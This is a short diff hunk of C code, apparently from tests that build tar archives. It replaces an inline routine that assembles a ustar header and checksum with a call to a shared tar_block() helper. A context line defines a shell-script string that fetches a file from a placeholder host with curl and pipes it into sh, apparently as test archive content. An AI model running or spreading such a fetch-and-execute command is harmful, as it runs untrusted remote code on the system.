@@ -239,33 +239,7 @@ static const char sh[] = "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n";
 static void th(struct sbuf *b, const char *name, char type, const char *link, const char *prefix, const char *magic,
 	       unsigned size, const void *data, size_t len)
 {
-	uint8_t h[512];
-	memset(h, 0, sizeof h);
-	memcpy(h, name, strlen(name) < 100 ? strlen(name) : 100);
-	memcpy(h + 100, "0000644", 7);
-	memcpy(h + 108, "0001750", 7);
-	memcpy(h + 116, "0001750", 7);
-	char sz[12];
-	snprintf(sz, sizeof sz, "%011o", size);
-	memcpy(h + 124, sz, 11);
-	memcpy(h + 136, "14500000000", 11);
-	h[156] = (uint8_t)type;
-	if (link)
-		memcpy(h + 157, link, strlen(link));
-	memcpy(h + 257, magic, 8);
-	if (prefix)
-		memcpy(h + 345, prefix, strlen(prefix));
-	memset(h + 148, ' ', 8);
-	unsigned sum = 0;
-	for (int i = 0; i < 512; i++)
-		sum += h[i];
-	snprintf((char *)h + 148, 8, "%06o", sum);
-	h[155] = ' ';
-	sb_put(b, h, 512);
-	if (len) {
-		sb_put(b, data, len);
-		sb_zero(b, (512 - len % 512) % 512);
-	}
+	tar_block(b, name, type, link, NULL, prefix, magic, size, data, len);
 }
 
 #define POSIX "ustar\00000"
